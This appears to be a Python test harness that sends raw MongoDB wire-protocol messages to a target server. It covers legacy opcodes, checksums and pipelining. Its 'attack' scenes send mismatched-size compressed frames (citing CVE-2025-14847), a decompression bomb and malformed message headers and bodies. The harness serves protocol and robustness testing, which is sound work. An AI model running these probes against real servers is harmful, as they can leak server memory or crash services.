#!/usr/bin/env python3
"""What no driver sends any more, or none of those at hand: the opcodes of old, checksums, several requests at once; and, in scenes
named attack-*, what no client sends.

usage: raw_mongodb.py HOST PORT SCENE
"""
import socket
import struct
import sys
import zlib

import bson

HOST, PORT, SCENE = sys.argv[1:] if len(sys.argv) == 4 else sys.exit(__doc__)


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


class Talk:
    def __init__(self):
        self.socket = socket.create_connection((HOST, int(PORT)), 5)
        self.number = 0

    def send(self, opcode, body, more=b""):
        self.number += 1
        self.socket.sendall(more + struct.pack("<iiii", len(body) + 16, self.number, 0, opcode) + body)
        return self.number

    def read(self):
        head = b""
        while len(head) < 16:
            got = self.socket.recv(16 - len(head))
            if not got:
                return None
            head += got
        length, body = struct.unpack_from("<i", head)[0], b""
        while len(body) < length - 16:
            body += self.socket.recv(length - 16 - len(body))
        return struct.unpack("<iiii", head), body

    def msg(self, document, flags=0):
        body = struct.pack("<I", flags) + b"\0" + bson.encode(document)
        if flags & 1:
            body += struct.pack("<I", crc32c(struct.pack("<iiii", len(body) + 20, self.number + 1, 0, 2013) + body))
        return self.send(2013, body)

    def query(self, name, document, skip=0, number=-1):
        return self.send(2004, struct.pack("<i", 0) + name.encode() + b"\0" + struct.pack("<ii", skip, number) + bson.encode(document))


def hello(t):
    t.query("admin.$cmd", {"ismaster": 1, "client": {"driver": {"name": "raw", "version": "1"}}})
    print(t.read()[0])


def legacy():
    t = Talk()
    t.send(2002, struct.pack("<i", 0) + b"shop.old\0" + b"".join(bson.encode({"n": i}) for i in range(5)))
    t.query("shop.old", {"n": {"$gt": 1}}, number=2)
    _, body = t.read()
    cursor = struct.unpack_from("<q", body, 4)[0]
    t.send(2005, struct.pack("<i", 0) + b"shop.old\0" + struct.pack("<iq", 10, cursor))
    print(t.read()[0])
    t.send(2001, struct.pack("<i", 0) + b"shop.old\0" + struct.pack("<i", 1) + bson.encode({"n": 1}) + bson.encode({"$set": {"n": 2}}))
    t.send(2006, struct.pack("<i", 0) + b"shop.old\0" + struct.pack("<i", 1) + bson.encode({"n": 1}))
    t.send(2007, struct.pack("<iiqq", 0, 2, 77, 78))
    t.query("shop.$cmd", {"$query": {"count": "old"}, "$readPreference": {"mode": "primary"}})
    print(t.read()[0])


def checksum():
    t = Talk()
    hello(t)
    for n in range(3):
        t.msg({"ping": 1, "$db": "admin"}, 1)
        print(t.read()[0])
    t.msg({"insert": "checked", "documents": [{"n": n} for n in range(20)], "$db": "shop"}, 1)
    print(t.read()[0])
    t.msg({"find": "checked", "$db": "shop"}, 1)
    print(t.read()[0])


def pipelined():
    t = Talk()
    hello(t)
    for n in range(8):
        t.msg({"ping": 1, "$db": "admin"})
    for n in range(8):
        print(t.read()[0])


def attack_compressed():
    """CVE-2025-14847 and its kin, each on a connection of its own."""
    inner = struct.pack("<I", 0) + b"\0" + bson.encode({"ping": 1, "$db": "admin"})
    packed = zlib.compress(inner)
    for declared, compressor, payload in ((len(inner) + 500, 2, packed), (1000000, 2, packed), (-1, 2, packed), (48000000, 2, packed),
                                          (len(inner), 2, packed[:-6]), (len(inner), 9, packed), (1000, 2, zlib.compress(bytes(3000000)))):
        t = Talk()
        hello(t)
        t.send(2012, struct.pack("<iiB", 2013, declared, compressor) + payload)
        t.socket.settimeout(0.3)
        try:
            print(t.read())
        except OSError as e:
            print(e)
        t.socket.close()


def attack_malformed():
    """One defect each, to a server that answers or closes."""
    good = struct.pack("<I", 0) + b"\0" + bson.encode({"ping": 1, "$db": "admin"})
    deep = {}
    for _ in range(240):
        deep = {"d": deep}
    bodies = [
        struct.pack("<I", 4) + good[4:], good[:4] + b"\7" + good[5:], struct.pack("<I", 0), good + good[4:],
        good[:5] + struct.pack("<i", 4000) + good[9:], good[:-1] + b"\1", good[:9] + b"\x14" + good[10:],
        struct.pack("<I", 0) + b"\0" + bson.encode({"ping": 1, "deep": deep, "$db": "admin"}), struct.pack("<I", 1) + good[4:] + b"\0\0\0\0",
        good + b"\1" + struct.pack("<i", 3) + b"a\0",
    ]
    for body in bodies:
        t = Talk()
        hello(t)
        t.send(2013, body)
        t.socket.settimeout(0.5)
        try:
            print(t.read())
        except OSError as e:
            print(e)
        t.socket.close()
    for head in (struct.pack("<iiii", 8, 1, 0, 2013), struct.pack("<iiii", 50000000, 1, 0, 2013), struct.pack("<iiii", -5, 1, 0, 2013)):
        t = Talk()
        hello(t)
        t.socket.sendall(head + good)
        t.socket.settimeout(0.5)
        try:
            print(t.read())
        except OSError as e:
            print(e)
        t.socket.close()


SCENES = {"legacy": legacy, "checksum": checksum, "pipelined": pipelined, "attack-compressed": attack_compressed, "attack-malformed": attack_malformed}
SCENES[SCENE]()
